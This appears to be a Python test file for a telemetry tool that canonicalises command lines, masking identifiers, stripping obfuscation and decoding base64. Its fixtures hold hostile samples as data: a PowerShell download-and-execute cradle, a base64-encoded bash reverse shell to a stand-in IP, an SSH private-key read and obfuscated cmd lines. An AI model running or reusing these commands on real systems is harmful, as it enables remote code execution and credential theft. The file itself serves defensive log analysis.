"""Command lines and scripts in canonical spelling."""

import base64

import pytest
from hypothesis import given
from hypothesis import strategies as st

from loglm_bridge.telemetry.canonical.host.commands import MAX_COMMAND, command, script
from tests.telemetry.parsing import assert_linear, few_examples

DOWNLOAD = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.5/a.ps1')"
UTF16 = base64.b64encode(DOWNLOAD.encode("utf-16-le")).decode()
REVERSE = base64.b64encode(b"bash -i >& /dev/tcp/198.51.100.7/4444 0>&1").decode()
DECODED = "{decoded} iex (new-object net.webclient).downloadstring('http://{ip}/a.ps1')"
WORDS = st.lists(st.from_regex(r"[g-z]{2,8}", fullmatch=True), min_size=1, max_size=6)


@pytest.mark.parametrize(
    ("raw", "canonical"),
    [
        (r"net use \\FS01\c$ /user:CORP\bob Pa55!", r"net use \\{host}\c$ /user:{user} pa55!"),
        (r"psexec \\10.1.2.3 -u corp\adm cmd", r"psexec \\{private} -u {user} cmd"),
        ("wmic /node:10.1.2.3 process list", "wmic /node:{private} process list"),
        (r"C:/Users/bob/x.py --port 50123", r"\users\{user}\x.py --port {number}"),
        ("nc 2001:db8::1 443", "nc {public} 443"),
        ("arp -s 10.1.2.3 aa-bb-cc-dd-ee-ff", "arp -s {private} aa-bb-cc-dd-ee-ff"),
        ("ip link set eth0 address aa:bb:cc:dd:ee:ff", "ip link set eth0 address {mac}"),
        (r"\??\C:\Windows\system32\conhost.exe 0xffffffff", r"\windows\system32\conhost.exe {hex}"),
        ("DWORD (0x00000001)", "dword (0x1)"),
        ("DWORD (0x00000000)", "dword (0x0)"),
        ("x 7c1d2e3f-1111-2222-3333-444455556666 y", "x {guid} y"),
        ("icacls x /grant *S-1-1-0:F", "icacls x /grant *everyone:f"),
        (r'"%APPDATA%\x\y.exe"   /sc', r"\users\{user}\appdata\roaming\x\y.exe /sc"),
        ("cat /home/bob/.ssh/id_rsa", "cat /home/{user}/.ssh/id_rsa"),
        ("ping -n 5 127.0.0.1 > nul", "ping -n 5 {loopback} > nul"),
        ("app 10.0.19041.1 of 2026-03-04T05:06:07Z", "app {version} of {time}"),
        ("curl https://bob:pw@files.acme.com/a.sh?id=77", "curl https://{credentials}@{sub}.{domain}.com/a.sh?id={n}"),
        ("x 300.1.2.3", "x {version}"),
        ("sleep 0.123456789", "sleep {number}"),
        ("mail ann@corp.example", "mail {email}"),
        ("  a \t b\n c ", "a b c"),
        ("", ""),
    ],
)
def test_spelling(raw, canonical):
    assert command(raw) == canonical


@pytest.mark.parametrize(
    ("raw", "canonical"),
    [
        ('c^m^d.e^x^e /c "who""ami"', "cmd.exe /c whoami {obfuscated}"),
        ("in`vo`ke-exp`ression", "invoke-expression {obfuscated}"),
        ("&('ne'+'w-ob'+'ject')", "&('new-object')"),
        ("&('n'+'ew'+'-o'+'b'+'ject')", "&('new-object') {obfuscated}"),
        ("echo a^&b", "echo a&b"),
    ],
)
def test_obfuscation_is_removed_and_marked_from_three_characters_on(raw, canonical):
    assert command(raw) == canonical


@few_examples
@given(WORDS, st.data())
def test_carets_inside_words_do_not_change_the_command(words, data):
    noisy = ["^".join(word) for word in words]
    marked = sum(len(word) - 1 for word in words) >= 3
    assert command(" ".join(noisy)) == " ".join(words) + (" {obfuscated}" if marked else "")


@pytest.mark.parametrize(
    ("raw", "canonical"),
    [
        (f"powershell.exe -NoP -EncodedCommand {UTF16}", f"powershell.exe -nop -encodedcommand {{base64}} {DECODED}"),
        (f"powershell -e {UTF16}", f"powershell -e {{base64}} {DECODED}"),
        (f'powershell -enc "{UTF16}"', f"powershell -enc {{base64}} {DECODED}"),
        (
            f"bash -c {{echo,{REVERSE}}}|{{base64,-d}}|{{bash,-i}}",
            "bash -c {echo,{base64}}|{base64,-d}|{bash,-i} {decoded} bash -i >& /dev/tcp/{public}/4444 0>&1",
        ),
    ],
)
def test_base64_is_decoded(raw, canonical):
    assert command(raw) == canonical


@few_examples
@given(WORDS, st.sampled_from(["utf-8", "utf-16-le"]), st.sampled_from(["-e", "-enc", "/EncodedCommand"]))
def test_an_encoded_command_reads_as_the_command(words, encoding, flag):
    text = "run " + " ".join(words) + " as requested by the test"
    encoded = base64.b64encode(text.encode(encoding)).decode()
    assert command(f"powershell {flag} {encoded}") == f"powershell {flag.lower()} {{base64}} {{decoded}} {text}"


def test_base64_is_decoded_once_only():
    inner = base64.b64encode(b"whoami /all and something longer than that").decode()
    outer = base64.b64encode(f"powershell -enc {inner}".encode()).decode()
    assert command(f"powershell -enc {outer}").count("{decoded}") == 1


def test_base64_of_binary_data_is_masked_but_not_decoded():
    encoded = base64.b64encode(bytes(range(128, 200))).decode()
    assert command(f"certutil -decode {encoded}") == "certutil -decode {base64}"


@pytest.mark.parametrize(
    "text",
    [
        "/usr/lib/x86_64/libsomethingratherlong",
        "supercalifragilisticexpialidocious",
        "a/b/c/d/e/f/g/h/i/j/k/l/m",
        "GetSystemTimeAsFileTimeStampAndMore",
    ],
)
def test_words_and_paths_are_not_taken_for_base64(text):
    assert "{base64}" not in command(text)


def test_a_log_cannot_forge_a_placeholder():
    assert command("echo {user} {decoded} {base64} {1k-2k}") == "echo {_user} {_decoded} {_base64} {_1k-2k}"
    encoded = base64.b64encode("Write-Host {decoded} and {user} to the console".encode("utf-16-le")).decode()
    assert command(f"powershell -e {encoded}").endswith("{decoded} write-host {_decoded} and {_user} to the console")


@pytest.mark.parametrize(
    ("raw", "canonical"),
    [
        (
            'CommandInvocation(Get-Item): "Get-Item"\nParameterBinding(Get-Item): name="Path"; value="C:\\Windows"\n',
            r"get-item -path \windows",
        ),
        ("<# help\nmore #>\n# note\nGet-Date", "get-date"),
        ("Get-Date # not a comment line", "get-date # not a comment line"),
        ("Get-Date <# never closed", "get-date"),
        ("", ""),
    ],
)
def test_script(raw, canonical):
    assert script(raw) == canonical


@given(st.text(max_size=600))
def test_any_text_gives_a_bounded_result(raw):
    assert len(command(raw)) <= MAX_COMMAND
    assert "\n" not in command(raw)


def test_long_commands_are_cut():
    assert len(command("a b " * 50_000)) <= MAX_COMMAND


@pytest.mark.parametrize("unit", ["^a`b", "'+'", "QUJD", "http://a/", "fe80::", "1.", "a@b.", "0x", "<#", "\\users\\"])
def test_reading_takes_linear_time(unit):
    assert_linear(command, unit)
    assert_linear(script, unit)
